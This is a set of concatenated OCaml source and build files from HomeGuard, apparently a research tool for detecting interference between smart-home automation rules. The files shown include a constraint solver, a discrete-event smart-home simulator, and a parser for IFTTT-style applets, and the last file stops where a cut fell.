    (i.e. f ∧ ¬g is unsatisfiable). *)
let entails store f g = not (sat store (Formula.conj [ f; Formula.Not g ]))

(** [conflicts store f g]: f ∧ g has no model. *)
let conflicts store f g = not (sat store (Formula.conj [ f; g ]))
