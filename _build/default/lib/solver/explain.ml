(** Human-readable rendering of solver models.

    The frontend shows users the concrete situation in which two rules
    interfere (paper Fig 7b); a model is rendered as "when
    tSensor.temperature is 31 and weather is rainy". *)

let value_to_string = Domain.value_to_string

let binding_to_string (var, value) =
  Printf.sprintf "%s is %s" var (value_to_string value)

(** Render a model, skipping solver-internal sentinel values. *)
let model_to_string (model : Solver.model) =
  let visible =
    List.filter
      (fun (_, v) ->
        match v with
        | Domain.Str s -> s <> Store.other_value
        | Domain.Int _ -> true)
      model
  in
  match visible with
  | [] -> "in any situation"
  | bindings -> "when " ^ String.concat " and " (List.map binding_to_string bindings)
