(** Variable stores: typed domains for solver variables, plus domain
    inference for variables a formula leaves untyped. *)

type t

val empty : t
val add : string -> Domain.t -> t -> t
val of_list : (string * Domain.t) list -> t
val find_opt : string -> t -> Domain.t option
val bindings : t -> (string * Domain.t) list
val mem : string -> t -> bool

val default_int_lo : int
val default_int_hi : int

val other_value : string
(** Sentinel enum member standing for "any value other than the
    constants the formula mentions"; keeps disequalities satisfiable. *)

val infer : t -> Formula.t -> t
(** Extend the store with domains for every free variable of the
    formula: numeric by default, enumerated when the variable is only
    ever compared against string constants (universes joined across
    variable-variable equalities). *)
