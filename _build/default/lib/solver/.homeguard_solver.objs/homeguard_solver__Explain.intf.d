lib/solver/explain.mli: Domain Solver
