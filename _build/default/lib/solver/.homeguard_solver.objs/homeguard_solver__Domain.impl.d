lib/solver/domain.ml: List Option Printf String
