lib/solver/formula.ml: Domain List Printf String Term
