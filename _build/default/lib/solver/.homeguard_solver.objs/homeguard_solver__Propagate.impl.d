lib/solver/propagate.ml: Domain Formula List Map Option String Term
