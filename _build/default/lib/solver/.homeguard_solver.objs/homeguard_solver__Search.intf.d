lib/solver/search.mli: Dnf Domain Store
