lib/solver/dnf.mli: Formula Term
