lib/solver/propagate.mli: Dnf Domain Map
