lib/solver/solver.mli: Formula Search Store
