lib/solver/store.mli: Domain Formula
