lib/solver/store.ml: Domain Formula Hashtbl List Map String Term
