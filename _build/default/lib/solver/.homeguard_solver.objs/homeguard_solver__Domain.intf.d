lib/solver/domain.mli:
