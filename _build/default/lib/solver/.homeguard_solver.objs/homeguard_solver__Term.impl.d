lib/solver/term.ml: List Option Printf
