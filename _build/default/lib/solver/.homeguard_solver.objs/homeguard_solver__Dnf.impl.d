lib/solver/dnf.ml: Formula List Term
