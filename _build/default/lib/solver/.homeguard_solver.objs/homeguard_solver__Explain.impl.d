lib/solver/explain.ml: Domain List Printf Solver Store String
