lib/solver/search.ml: Dnf Domain Formula List Option Propagate Store Term
