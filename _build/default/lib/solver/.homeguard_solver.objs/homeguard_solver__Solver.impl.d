lib/solver/solver.ml: Dnf Formula List Option Search Store
