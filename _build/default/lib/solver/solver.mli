(** Top-level constraint-satisfaction interface — HomeGuard's substitute
    for the JaCoP solver: satisfiability of quantifier-free formulas
    over bounded integers and enumerated strings, with witness models. *)

type model = Search.model

val satisfiable : Store.t -> Formula.t -> model option
(** DNF + propagate-and-split per conjunct; the store is closed over
    free variables via {!Store.infer}. Falls back to {!satisfiable_dpll}
    when the DNF would exceed {!Dnf.max_conjuncts}. *)

val satisfiable_dpll : Store.t -> Formula.t -> model option
(** Lazy DPLL-style splitting on disjunctions (ablation A3 variant). *)

val sat : Store.t -> Formula.t -> bool

val entails : Store.t -> Formula.t -> Formula.t -> bool
(** [entails store f g]: every model of [f] satisfies [g]. *)

val conflicts : Store.t -> Formula.t -> Formula.t -> bool
(** [conflicts store f g]: [f] and [g] have no common model. *)
