(** Disjunctive normal form of quantifier-free formulas. *)

exception Too_large
(** Raised when the DNF would exceed {!max_conjuncts}. *)

type atom = Formula.cmp * Term.t * Term.t
type conjunct = atom list

val max_conjuncts : int

val of_formula : Formula.t -> conjunct list
(** NNF then distribution. [[]] means the formula is [False]; a list
    containing [[]] contains a trivially true conjunct. *)

val conjunct_to_formula : conjunct -> Formula.t
val to_formula : conjunct list -> Formula.t
