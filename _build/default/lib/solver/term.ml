(** Terms of the quantifier-free constraint language.

    Rules extracted from SmartApps are represented as quantifier-free
    first-order formulas (paper §I) whose terms are integer/string
    constants, solver variables (qualified names such as
    ["tSensor.temperature"] or ["threshold1"]) and linear arithmetic. *)

type t =
  | Int of int
  | Str of string
  | Var of string
  | Add of t * t
  | Sub of t * t
  | Mul of t * t
  | Neg of t

let rec vars acc = function
  | Int _ | Str _ -> acc
  | Var v -> if List.mem v acc then acc else v :: acc
  | Add (a, b) | Sub (a, b) | Mul (a, b) -> vars (vars acc a) b
  | Neg a -> vars acc a

(** Free variables, in first-occurrence order. *)
let free_vars t = List.rev (vars [] t)

(** Is this term a string-typed constant? (Variables may be either;
    typing is resolved against the store.) *)
let is_string_const = function Str _ -> true | _ -> false

let rec to_string = function
  | Int n -> string_of_int n
  | Str s -> Printf.sprintf "%S" s
  | Var v -> v
  | Add (a, b) -> Printf.sprintf "(%s + %s)" (to_string a) (to_string b)
  | Sub (a, b) -> Printf.sprintf "(%s - %s)" (to_string a) (to_string b)
  | Mul (a, b) -> Printf.sprintf "(%s * %s)" (to_string a) (to_string b)
  | Neg a -> Printf.sprintf "-(%s)" (to_string a)

(** Substitute variables by terms. *)
let rec subst map t =
  match t with
  | Int _ | Str _ -> t
  | Var v -> ( match List.assoc_opt v map with Some t' -> t' | None -> t)
  | Add (a, b) -> Add (subst map a, subst map b)
  | Sub (a, b) -> Sub (subst map a, subst map b)
  | Mul (a, b) -> Mul (subst map a, subst map b)
  | Neg a -> Neg (subst map a)

(** Evaluate a ground (variable-free) integer term. *)
let rec eval_ground = function
  | Int n -> Some n
  | Str _ | Var _ -> None
  | Add (a, b) -> ( match (eval_ground a, eval_ground b) with
    | Some x, Some y -> Some (x + y)
    | _ -> None)
  | Sub (a, b) -> ( match (eval_ground a, eval_ground b) with
    | Some x, Some y -> Some (x - y)
    | _ -> None)
  | Mul (a, b) -> ( match (eval_ground a, eval_ground b) with
    | Some x, Some y -> Some (x * y)
    | _ -> None)
  | Neg a -> Option.map (fun x -> -x) (eval_ground a)
