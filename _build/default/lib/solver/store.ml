(** Variable stores: typed domains for solver variables.

    The rules layer populates a store from capability attribute domains
    (e.g. ["tv1.switch"] gets [{on, off}]) and from configuration values;
    {!infer} then closes the store over a formula's remaining free
    variables — numeric by default, enum when only ever compared against
    string constants (with a sentinel extra value so Neq stays
    satisfiable). *)

module SMap = Map.Make (String)

type t = Domain.t SMap.t

let empty : t = SMap.empty
let add = SMap.add
let of_list l = List.fold_left (fun m (k, v) -> SMap.add k v m) SMap.empty l
let find_opt = SMap.find_opt
let bindings = SMap.bindings
let mem = SMap.mem

(** Default bounds for untyped numeric variables (user thresholds,
    sensor readings without a capability domain). *)
let default_int_lo = -1_000_000
let default_int_hi = 1_000_000

(** Sentinel enum value: "some value other than the constants mentioned". *)
let other_value = "__other__"

(* Collect, for each variable, the string constants it is compared
   against anywhere in the formula. *)
let enum_universe f =
  let tbl = Hashtbl.create 16 in
  let note v s =
    let cur = try Hashtbl.find tbl v with Not_found -> [] in
    if not (List.mem s cur) then Hashtbl.replace tbl v (s :: cur)
  in
  let rec atom_sides a b =
    match (a, b) with
    | Term.Var v, Term.Str s | Term.Str s, Term.Var v -> note v s
    | Term.Var v1, Term.Var v2 ->
      (* joined enum variables share their universes at inference time *)
      note v1 ("__join__" ^ v2);
      note v2 ("__join__" ^ v1)
    | _ -> ()
  and go = function
    | Formula.True | Formula.False -> ()
    | Formula.Atom (_, a, b) -> atom_sides a b
    | Formula.And fs | Formula.Or fs -> List.iter go fs
    | Formula.Not f -> go f
  in
  go f;
  tbl

(* Is a variable ever used arithmetically or ordered (=> numeric)? *)
let numeric_vars f =
  let tbl = Hashtbl.create 16 in
  let rec note_term = function
    | Term.Int _ | Term.Str _ -> ()
    | Term.Var v -> Hashtbl.replace tbl v true
    | Term.Add (a, b) | Term.Sub (a, b) | Term.Mul (a, b) ->
      note_term a;
      note_term b
    | Term.Neg a -> note_term a
  in
  let note_arith = function
    | Term.Add _ | Term.Sub _ | Term.Mul _ | Term.Neg _ as t -> note_term t
    | Term.Int _ | Term.Str _ | Term.Var _ -> ()
  in
  let rec go = function
    | Formula.True | Formula.False -> ()
    | Formula.Atom (cmp, a, b) ->
      (match cmp with
      | Formula.Lt | Formula.Le | Formula.Gt | Formula.Ge ->
        (* ordering implies numeric on both sides *)
        let rec all_vars = function
          | Term.Var v -> Hashtbl.replace tbl v true
          | Term.Int _ | Term.Str _ -> ()
          | Term.Add (x, y) | Term.Sub (x, y) | Term.Mul (x, y) ->
            all_vars x;
            all_vars y
          | Term.Neg x -> all_vars x
        in
        all_vars a;
        all_vars b
      | Formula.Eq | Formula.Neq -> ());
      note_arith a;
      note_arith b;
      (* equality against an int constant implies numeric *)
      (match (a, b) with
      | Term.Var v, Term.Int _ | Term.Int _, Term.Var v -> Hashtbl.replace tbl v true
      | _ -> ())
    | Formula.And fs | Formula.Or fs -> List.iter go fs
    | Formula.Not f -> go f
  in
  go f;
  tbl

(** [infer store f] extends [store] with domains for every free variable
    of [f] not already typed. *)
let infer store f =
  let universe = enum_universe f in
  let numeric = numeric_vars f in
  (* Resolve enum universes across __join__ links (one step suffices for
     rule-sized formulas; iterate to a small fixpoint to be safe). *)
  let resolve v =
    let seen = Hashtbl.create 4 in
    let rec go v acc =
      if Hashtbl.mem seen v then acc
      else begin
        Hashtbl.replace seen v ();
        let entries = try Hashtbl.find universe v with Not_found -> [] in
        List.fold_left
          (fun acc s ->
            if String.length s > 8 && String.sub s 0 8 = "__join__" then
              go (String.sub s 8 (String.length s - 8)) acc
            else if List.mem s acc then acc
            else s :: acc)
          acc entries
      end
    in
    go v []
  in
  List.fold_left
    (fun store v ->
      if mem v store then store
      else if Hashtbl.mem numeric v then
        add v (Domain.interval default_int_lo default_int_hi) store
      else
        match resolve v with
        | [] -> add v (Domain.interval default_int_lo default_int_hi) store
        | consts -> add v (Domain.enums (other_value :: consts)) store)
    store (Formula.free_vars f)
