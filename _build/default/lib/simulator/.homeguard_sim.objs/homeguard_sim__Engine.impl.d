lib/simulator/engine.ml: Env_model Event_queue Float Hashtbl Homeguard_detector Homeguard_rules Homeguard_solver Homeguard_st List String Trace
