lib/simulator/engine.mli: Env_model Event_queue Hashtbl Homeguard_rules Homeguard_st Trace
