lib/simulator/event_queue.ml: Map Option
