lib/simulator/env_model.mli: Homeguard_detector Homeguard_st
