lib/simulator/env_model.ml: Homeguard_detector Homeguard_st List
