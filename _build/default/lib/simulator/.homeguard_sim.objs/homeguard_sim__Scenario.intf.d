lib/simulator/scenario.mli: Engine Trace
