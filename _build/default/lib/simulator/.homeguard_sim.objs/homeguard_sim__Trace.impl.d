lib/simulator/trace.ml: List Printf String
