lib/simulator/scenario.ml: Engine Homeguard_rules Homeguard_st List Trace
