lib/simulator/trace.mli:
