(** Physical environment dynamics: actuator influences drive measurable
    features; integrative features relax toward baselines, instantaneous
    ones (power, illuminance, noise) follow their sources directly. *)

module Env = Homeguard_st.Env_feature

type influence = { source : string; feature : Env.t; rate_per_minute : float }

type t = {
  mutable values : (Env.t * float) list;
  mutable baselines : (Env.t * float) list;
  relax_per_minute : float;
  mutable influences : influence list;
}

val default_baselines : (Env.t * float) list
val create : ?baselines:(Env.t * float) list -> unit -> t
val value : t -> Env.t -> float
val set_value : t -> Env.t -> float -> unit
val set_baseline : t -> Env.t -> float -> unit
val set_influences : t -> string -> (Env.t * float) list -> unit
val clear_influences : t -> string -> unit
val step : t -> dt_ms:int -> unit

val rates_of_effects :
  (Env.t * Homeguard_detector.Effects.polarity) list -> (Env.t * float) list
(** Influence rates matching the detector's M_GC map, so statically
    predicted conflicts play out dynamically. *)
