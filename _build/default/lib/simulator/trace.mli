(** Simulation traces and the analyzers used to verify threats
    dynamically. *)

type entry =
  | Command of { at : int; app : string; rule : string; device : string; command : string }
  | Attr_change of { at : int; device : string; attribute : string; value : string }
  | Mode_change of { at : int; mode : string }
  | Event_fired of { at : int; source : string; attribute : string; value : string }

type t = entry list

val time_of : entry -> int
val entry_to_string : entry -> string
val to_string : t -> string

val commands_on : t -> string -> (int * string) list
val attribute_timeline : t -> string -> string -> (int * string) list
val final_attribute : t -> string -> string -> string option

val flap_count : t -> string -> string -> int
(** Value flips of an attribute (Loop-Triggering witness). *)

val opposite_commands_within :
  t -> string -> window_ms:int -> opposites:(string * string) list -> bool
(** Did contradictory commands land on the device within the window?
    (Actuator-race witness.) *)
