(** Physical environment dynamics.

    Fig 1's data layer: actuators influence environment features either
    directly or "via the environment (e.g. by heating the home to change
    the measurement reading of a temperature sensor)". Each feature holds
    a scalar value; active influences push it at a rate per minute, and
    absent influences it relaxes toward its baseline. *)

module Env = Homeguard_st.Env_feature

type influence = {
  source : string;  (** device id exerting the influence *)
  feature : Env.t;
  rate_per_minute : float;  (** signed *)
}

type t = {
  mutable values : (Env.t * float) list;
  mutable baselines : (Env.t * float) list;
  relax_per_minute : float;  (** fraction of gap recovered per minute *)
  mutable influences : influence list;
}

let default_baselines =
  [
    (Env.Temperature, 72.0);
    (Env.Illuminance, 300.0);
    (Env.Humidity, 45.0);
    (Env.Power, 120.0);
    (Env.Energy, 0.0);
    (Env.Noise, 30.0);
    (Env.Moisture, 0.0);
    (Env.Smoke, 0.0);
    (Env.Carbon_monoxide, 0.0);
  ]

let create ?(baselines = default_baselines) () =
  { values = baselines; baselines; relax_per_minute = 0.05; influences = [] }

let value t feature =
  match List.assoc_opt feature t.values with Some v -> v | None -> 0.0

let set_value t feature v =
  t.values <- (feature, v) :: List.remove_assoc feature t.values

(** Change a feature's ambient baseline (e.g. night-time illuminance). *)
let set_baseline t feature v =
  t.baselines <- (feature, v) :: List.remove_assoc feature t.baselines

(** Replace all influences from [source]. *)
let set_influences t source new_influences =
  t.influences <-
    List.filter (fun i -> i.source <> source) t.influences
    @ List.map
        (fun (feature, rate_per_minute) -> { source; feature; rate_per_minute })
        new_influences

let clear_influences t source = set_influences t source []

(** Advance the environment by [dt_ms]. Energy integrates power;
    everything else follows influences plus relaxation. *)
let step t ~dt_ms =
  let minutes = float_of_int dt_ms /. 60_000.0 in
  let influence_rate feature =
    List.fold_left
      (fun acc i -> if i.feature = feature then acc +. i.rate_per_minute else acc)
      0.0 t.influences
  in
  t.values <-
    List.map
      (fun (feature, v) ->
        let baseline =
          match List.assoc_opt feature t.baselines with Some b -> b | None -> 0.0
        in
        match feature with
        | Env.Energy ->
          (* kWh accumulated from instantaneous power (W) *)
          (feature, v +. (value t Env.Power *. minutes /. 60_000.0))
        | Env.Power | Env.Illuminance | Env.Noise ->
          (* instantaneous features: ambient baseline plus the
             contribution of the active sources (light and sound stop the
             moment their source does) *)
          (feature, baseline +. influence_rate feature)
        | Env.Temperature | Env.Humidity | Env.Moisture | Env.Smoke | Env.Carbon_monoxide ->
          (* integrative features drift under influences and relax back *)
          let relax = (baseline -. v) *. t.relax_per_minute *. minutes in
          (feature, v +. (influence_rate feature *. minutes) +. relax))
      t.values

(** Rates a device class exerts on the environment while active; mirrors
    the detector's M_GC so statically predicted conflicts play out
    dynamically. *)
let rates_of_effects effects =
  List.map
    (fun (feature, polarity) ->
      let magnitude =
        match feature with
        | Env.Temperature -> 0.8
        | Env.Illuminance -> 150.0
        | Env.Humidity -> 1.0
        | Env.Power -> 900.0
        | Env.Energy -> 0.0
        | Env.Noise -> 25.0
        | Env.Moisture -> 1.0
        | Env.Smoke | Env.Carbon_monoxide -> 0.0
      in
      match polarity with
      | Homeguard_detector.Effects.Incr -> (feature, magnitude)
      | Homeguard_detector.Effects.Decr -> (feature, -.magnitude))
    effects
