(** The discrete-event smart-home simulation engine.

    Substitutes for the paper's SmartThings testbed (§VIII-A/B): devices
    hold attribute state, the environment evolves under actuator
    influences, rules compiled from extracted {!Homeguard_rules.Rule}
    values subscribe to events and issue (possibly delayed) commands, and
    everything lands in a {!Trace}. Same-time command interleavings are
    perturbed by a seeded jitter so actuator races exhibit their
    nondeterministic outcomes across seeds. *)

module Rule = Homeguard_rules.Rule
module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula
module Device = Homeguard_st.Device
module Capability = Homeguard_st.Capability
module Location = Homeguard_st.Location
module Env = Homeguard_st.Env_feature
module Effects = Homeguard_detector.Effects

type binding = B_device of Device.t | B_int of int | B_str of string

type installed_app = { app : Rule.smartapp; bindings : (string * binding) list }

type device_state = {
  device : Device.t;
  mutable attrs : (string * string) list;  (** attribute -> rendered value *)
}

type pending =
  | Deliver of { source : string option; attribute : string; value : string }
      (** [source = None] means a location event *)
  | Execute of { iapp : installed_app; rule : Rule.t; action : Rule.action }
  | Sample  (** periodic environment sampling *)

type t = {
  devices : (string, device_state) Hashtbl.t;  (** keyed by device id *)
  env : Env_model.t;
  location : Location.t;
  queue : pending Event_queue.t;
  mutable now : int;
  mutable trace_rev : Trace.entry list;
  mutable apps : installed_app list;
  mutable rng : int;
  command_latency_ms : int;
  jitter_ms : int;
  sample_interval_ms : int;
}

let create ?(seed = 1) ?(command_latency_ms = 40) ?(jitter_ms = 150)
    ?(sample_interval_ms = 30_000) () =
  {
    devices = Hashtbl.create 16;
    env = Env_model.create ();
    location = Location.create ();
    queue = Event_queue.create ();
    now = 0;
    trace_rev = [];
    apps = [];
    rng = (seed * 2_654_435_761) land 0x3FFFFFFF;
    command_latency_ms;
    jitter_ms;
    sample_interval_ms;
  }

let next_random t bound =
  t.rng <- ((t.rng * 1_103_515_245) + 12_345) land 0x3FFFFFFF;
  if bound <= 0 then 0 else t.rng mod bound

let log t entry = t.trace_rev <- entry :: t.trace_rev

let trace t = List.rev t.trace_rev

(* -- devices --------------------------------------------------------------- *)

(* Devices start in their quiescent state. *)
let preferred_defaults =
  [ "off"; "closed"; "locked"; "inactive"; "not present"; "clear"; "dry"; "stopped"; "idle"; "unmuted"; "auto" ]

let default_attr_value = function
  | Capability.Enum values -> (
    match List.find_opt (fun v -> List.mem v preferred_defaults) values with
    | Some v -> v
    | None -> ( match values with v :: _ -> v | [] -> ""))
  | Capability.Numeric (lo, hi) -> string_of_int ((lo + hi) / 2)

(** Register a device; attributes start at capability defaults. *)
let add_device t device =
  let attrs =
    List.concat_map
      (fun cap_name ->
        match Capability.find cap_name with
        | Some cap ->
          List.map
            (fun a -> (a.Capability.attr_name, default_attr_value a.Capability.domain))
            cap.Capability.attributes
        | None -> [])
      device.Device.capabilities
  in
  Hashtbl.replace t.devices device.Device.id { device; attrs }

let device_state t id = Hashtbl.find_opt t.devices id

let set_attribute t id attribute value =
  match device_state t id with
  | None -> ()
  | Some ds ->
    let current = List.assoc_opt attribute ds.attrs in
    if current <> Some value then begin
      ds.attrs <- (attribute, value) :: List.remove_assoc attribute ds.attrs;
      log t (Trace.Attr_change { at = t.now; device = ds.device.Device.label; attribute; value });
      Event_queue.push t.queue (t.now + 10)
        (Deliver { source = Some id; attribute; value })
    end

(** Externally inject a sensor reading / state change (test stimulus). *)
let stimulate t id attribute value = set_attribute t id attribute value

let set_mode t mode =
  if t.location.Location.current_mode <> mode then begin
    Location.set_mode t.location mode;
    log t (Trace.Mode_change { at = t.now; mode });
    Event_queue.push t.queue (t.now + 10) (Deliver { source = None; attribute = "mode"; value = mode })
  end

(* -- app installation ------------------------------------------------------ *)

let install t app bindings =
  List.iter (fun (_, b) -> match b with B_device d -> if device_state t d.Device.id = None then add_device t d | _ -> ()) bindings;
  let iapp = { app; bindings } in
  t.apps <- t.apps @ [ iapp ];
  (* prime scheduled rules *)
  List.iter
    (fun (rule : Rule.t) ->
      match rule.Rule.trigger with
      | Rule.Scheduled { at_minutes; period_seconds } ->
        let first =
          match (at_minutes, period_seconds) with
          | Some m, _ -> m * 60_000
          | None, Some p -> p * 1000
          | None, None -> 60_000
        in
        List.iter
          (fun action -> Event_queue.push t.queue first (Execute { iapp; rule; action }))
          rule.Rule.actions
      | Rule.Event _ -> ())
    app.Rule.rules

let device_of_var iapp var =
  match List.assoc_opt var iapp.bindings with
  | Some (B_device d) -> Some d
  | _ -> None

(* -- concrete formula evaluation ------------------------------------------ *)

(* Value of a qualified variable in the current home state; [data] maps
   path-local names to their defining terms. *)
let rec var_value t iapp data var =
  match List.assoc_opt var data with
  | Some term -> term_value t iapp data term
  | None -> (
    if var = "location.mode" then Some (`S t.location.Location.current_mode)
    else if var = "time.now" then Some (`I (t.now / 60_000 mod 1440))
    else
      match String.rindex_opt var '.' with
      | Some i -> (
        let base = String.sub var 0 i in
        let attr = String.sub var (i + 1) (String.length var - i - 1) in
        match device_of_var iapp base with
        | Some d -> (
          match device_state t d.Device.id with
          | Some ds -> (
            match List.assoc_opt attr ds.attrs with
            | Some v -> (
              match int_of_string_opt v with Some n -> Some (`I n) | None -> Some (`S v))
            | None -> None)
          | None -> None)
        | None -> None)
      | None -> (
        match List.assoc_opt var iapp.bindings with
        | Some (B_int n) -> Some (`I n)
        | Some (B_str s) -> Some (`S s)
        | Some (B_device _) | None -> None))

and term_value t iapp data = function
  | Term.Int n -> Some (`I n)
  | Term.Str s -> Some (`S s)
  | Term.Var v -> var_value t iapp data v
  | Term.Add (a, b) -> arith t iapp data ( + ) a b
  | Term.Sub (a, b) -> arith t iapp data ( - ) a b
  | Term.Mul (a, b) -> arith t iapp data ( * ) a b
  | Term.Neg a -> (
    match term_value t iapp data a with Some (`I n) -> Some (`I (-n)) | _ -> None)

and arith t iapp data op a b =
  match (term_value t iapp data a, term_value t iapp data b) with
  | Some (`I x), Some (`I y) -> Some (`I (op x y))
  | _ -> None

(* Optimistic evaluation: atoms over unresolvable data (opaque symbols)
   hold, so controlled scenarios drive the rules they intend to. *)
let rec holds t iapp data = function
  | Formula.True -> true
  | Formula.False -> false
  | Formula.And fs -> List.for_all (holds t iapp data) fs
  | Formula.Or fs -> List.exists (holds t iapp data) fs
  | Formula.Not f -> not (holds t iapp data f)
  | Formula.Atom (cmp, a, b) -> (
    match (term_value t iapp data a, term_value t iapp data b) with
    | Some (`I x), Some (`I y) -> (
      match cmp with
      | Formula.Eq -> x = y
      | Formula.Neq -> x <> y
      | Formula.Lt -> x < y
      | Formula.Le -> x <= y
      | Formula.Gt -> x > y
      | Formula.Ge -> x >= y)
    | Some (`S x), Some (`S y) -> (
      match cmp with
      | Formula.Eq -> x = y
      | Formula.Neq -> x <> y
      | Formula.Lt | Formula.Le | Formula.Gt | Formula.Ge -> false)
    | Some (`I _), Some (`S _) | Some (`S _), Some (`I _) -> cmp = Formula.Neq
    | _ -> true)

(* -- rule firing ------------------------------------------------------------ *)

let trigger_matches t iapp (rule : Rule.t) ~source ~attribute ~value =
  match rule.Rule.trigger with
  | Rule.Scheduled _ -> false
  | Rule.Event { subject; attribute = sub_attr; constraint_ } ->
    sub_attr = attribute
    && (match (subject, source) with
       | Rule.Device var, Some id -> (
         match device_of_var iapp var with Some d -> d.Device.id = id | None -> false)
       | Rule.Location, None -> true
       | _ -> false)
    &&
    (* trigger constraint over the event value *)
    let subject_var =
      match subject with
      | Rule.Device var -> var ^ "." ^ attribute
      | Rule.Location -> "location." ^ attribute
      | Rule.App_touch -> "app.touch"
    in
    let data =
      (subject_var, match int_of_string_opt value with
       | Some n -> Term.Int n
       | None -> Term.Str value)
      :: rule.Rule.condition.Rule.data
    in
    holds t iapp data constraint_

let fire_rule t iapp (rule : Rule.t) =
  List.iter
    (fun (action : Rule.action) ->
      let delay =
        (action.Rule.when_ * 1000) + t.command_latency_ms + next_random t t.jitter_ms
      in
      Event_queue.push t.queue (t.now + delay) (Execute { iapp; rule; action }))
    rule.Rule.actions

let deliver t ~source ~attribute ~value =
  log t
    (Trace.Event_fired
       {
         at = t.now;
         source =
           (match source with
           | Some id -> (
             match device_state t id with
             | Some ds -> ds.device.Device.label
             | None -> id)
           | None -> "location");
         attribute;
         value;
       });
  List.iter
    (fun iapp ->
      List.iter
        (fun rule ->
          if trigger_matches t iapp rule ~source ~attribute ~value then
            if holds t iapp rule.Rule.condition.Rule.data rule.Rule.condition.Rule.predicate
            then fire_rule t iapp rule)
        iapp.app.Rule.rules)
    t.apps

(* Apply an actuator command: update the written attribute, adjust
   environment influences per the goal-effect map. *)
let execute t iapp (rule : Rule.t) (action : Rule.action) =
  match action.Rule.target with
  | Rule.Act_location_mode -> (
    match action.Rule.params with
    | Term.Str mode :: _ ->
      log t
        (Trace.Command
           {
             at = t.now;
             app = iapp.app.Rule.name;
             rule = rule.Rule.rule_id;
             device = "location";
             command = "setLocationMode(" ^ mode ^ ")";
           });
      set_mode t mode
    | _ -> ())
  | Rule.Act_messaging | Rule.Act_http | Rule.Act_hub ->
    log t
      (Trace.Command
         {
           at = t.now;
           app = iapp.app.Rule.name;
           rule = rule.Rule.rule_id;
           device = Rule.target_to_string action.Rule.target;
           command = action.Rule.command;
         })
  | Rule.Act_device var -> (
    match device_of_var iapp var with
    | None -> ()
    | Some d ->
      log t
        (Trace.Command
           {
             at = t.now;
             app = iapp.app.Rule.name;
             rule = rule.Rule.rule_id;
             device = d.Device.label;
             command = action.Rule.command;
           });
      (* attribute write via the capability registry *)
      List.iter
        (fun (w : Homeguard_detector.Channels.attr_write) ->
          match w.Homeguard_detector.Channels.w_value with
          | Some (Term.Str v) -> set_attribute t d.Device.id w.Homeguard_detector.Channels.w_attr v
          | Some (Term.Int n) ->
            set_attribute t d.Device.id w.Homeguard_detector.Channels.w_attr (string_of_int n)
          | Some term -> (
            match term_value t iapp rule.Rule.condition.Rule.data term with
            | Some (`I n) ->
              set_attribute t d.Device.id w.Homeguard_detector.Channels.w_attr (string_of_int n)
            | Some (`S s) -> set_attribute t d.Device.id w.Homeguard_detector.Channels.w_attr s
            | None -> ())
          | None -> ())
        (Homeguard_detector.Channels.attribute_writes iapp.app action);
      (* environment influence *)
      let effects = Effects.effects_of_action iapp.app action in
      let deactivating = List.mem action.Rule.command [ "off"; "close"; "stop"; "pause" ] in
      if deactivating then Env_model.clear_influences t.env d.Device.id
      else if effects <> [] then
        Env_model.set_influences t.env d.Device.id (Env_model.rates_of_effects effects))

(* Sample: step the environment and refresh sensor readings. *)
let sample t =
  Env_model.step t.env ~dt_ms:t.sample_interval_ms;
  Hashtbl.iter
    (fun id ds ->
      List.iter
        (fun attr ->
          match Env.of_sensor_attribute attr with
          | Some feature ->
            let v = int_of_float (Float.round (Env_model.value t.env feature)) in
            set_attribute t id attr (string_of_int v)
          | None -> ())
        (Device.attributes ds.device))
    t.devices

(** Run the simulation until [until_ms]. *)
let run t ~until_ms =
  Event_queue.push t.queue (t.now + t.sample_interval_ms) Sample;
  let rec loop () =
    match Event_queue.pop t.queue with
    | None -> ()
    | Some (time, _) when time > until_ms -> ()
    | Some (time, item) ->
      t.now <- max t.now time;
      (match item with
      | Deliver { source; attribute; value } -> deliver t ~source ~attribute ~value
      | Execute { iapp; rule; action } -> execute t iapp rule action
      | Sample ->
        sample t;
        Event_queue.push t.queue (t.now + t.sample_interval_ms) Sample);
      loop ()
  in
  loop ();
  t.now <- until_ms
