(** IFTTT-style template rules (paper §VIII-D4, Table IV).

    IFTTT defines automation by templates rather than programs; the
    paper notes such rules "can be extracted by crawling text data on
    the related pages" — no symbolic execution needed. This module
    parses a small applet grammar modeled on IFTTT recipe titles and
    lowers applets into the same {!Homeguard_rules.Rule} IR the
    SmartApp extractor produces, so the threat detector is platform
    independent exactly as the paper claims.

    Grammar (case-insensitive keywords, one applet per line):
    {v
    IF <device>.<attribute> IS <value>
      [WHILE <device>.<attribute> IS <value>]...
      THEN <device> DO <command> [WITH <arg>]
    IF <device>.<attribute> IS <value> THEN MODE <mode>
    EVERY DAY AT <HH:MM> THEN <device> DO <command> [WITH <arg>]
    v} *)

module Rule = Homeguard_rules.Rule
module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term
module Capability = Homeguard_st.Capability

type trigger_template =
  | On_state of { device : string; attribute : string; value : string }
  | Daily_at of int  (** minutes after midnight *)

type action_template =
  | Do_command of { device : string; command : string; arg : string option }
  | Set_mode of string

type applet = {
  applet_name : string;
  trigger : trigger_template;
  filters : (string * string * string) list;  (** device, attribute, value *)
  action : action_template;
}

exception Parse_error of string

let fail fmt = Printf.ksprintf (fun m -> raise (Parse_error m)) fmt

(* -- applet text parsing --------------------------------------------------- *)

let tokenize line =
  String.split_on_char ' ' line |> List.filter (fun t -> t <> "")

let keyword t k = String.uppercase_ascii t = k

let split_device_attr token =
  match String.index_opt token '.' with
  | Some i ->
    (String.sub token 0 i, String.sub token (i + 1) (String.length token - i - 1))
  | None -> fail "expected <device>.<attribute>, got %S" token

(* parse "<device>.<attribute> IS <value>" from the token stream *)
let parse_state_test = function
  | da :: is :: value :: rest when keyword is "IS" ->
    let device, attribute = split_device_attr da in
    ((device, attribute, value), rest)
  | toks -> fail "expected '<device>.<attr> IS <value>' near %S" (String.concat " " toks)

let parse_time s =
  match Homeguard_symexec.Api_model.minutes_of_time_string s with
  | Some m -> m
  | None -> fail "bad time %S (expected HH:MM)" s

let rec parse_filters acc = function
  | w :: rest when keyword w "WHILE" ->
    let test, rest = parse_state_test rest in
    parse_filters (test :: acc) rest
  | rest -> (List.rev acc, rest)

let parse_action = function
  | m :: mode :: [] when keyword m "MODE" -> Set_mode mode
  | device :: d :: command :: rest when keyword d "DO" -> (
    match rest with
    | [] -> Do_command { device; command; arg = None }
    | [ w; arg ] when keyword w "WITH" -> Do_command { device; command; arg = Some arg }
    | toks -> fail "unexpected tokens after action: %S" (String.concat " " toks))
